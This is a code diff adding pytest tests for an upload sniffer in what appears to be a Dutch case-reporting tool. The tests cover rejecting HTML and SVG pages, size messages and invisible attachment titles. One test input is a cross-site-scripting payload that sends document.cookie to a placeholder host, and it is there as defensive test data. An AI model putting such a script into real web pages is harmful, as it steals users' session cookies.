@@ -219,3 +219,31 @@ def test_melding_lists_attachments_with_their_hash(case):
     text = export_case(svc, case_id, "melding").data.decode()
     section = text.split("### Bijlagen", 1)[1]
     assert "Brief van de huisarts (fictief)" in section and hashlib.sha256(PDF).hexdigest() in section
+
+
+@pytest.mark.parametrize("page", [
+    b"<!DOCTYPE html>\n<html><body>Briefje (fictief)</body></html>\n",
+    b"  <html><script>fetch('https://example.invalid/'+document.cookie)</script>",
+    b"Gewone tekst\n<iframe src=x></iframe>\n",
+    b"<?xml version='1.0'?>\n<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
+])
+def test_an_html_page_or_svg_is_refused_though_it_is_clean_text(page):
+    with pytest.raises(InputError, match="webpagina"):
+        sniff(page, max_bytes=1 << 20)
+
+
+def test_text_that_only_mentions_tags_in_words_is_still_text():
+    assert sniff(b"Ze schreef <3 en 'zie bijlage'.\n", max_bytes=1 << 20).media_type == "text/plain"
+
+
+def test_the_size_message_tells_the_size_from_the_maximum():
+    with pytest.raises(InputError) as info:
+        sniff(b"x" * 10_500_000, max_bytes=10 * 1024 * 1024)
+    assert "10,01 MB groot; het maximum is 10,00 MB" in info.value.message
+
+
+@pytest.mark.parametrize("title", ["\u200b", "\u0301", "\ufeff\u2060"])
+def test_an_invisible_title_is_refused(case, title):
+    svc, cid = case
+    with pytest.raises(InputError, match="onzichtbare"):
+        svc.add_attachment(cid, PDF, title)
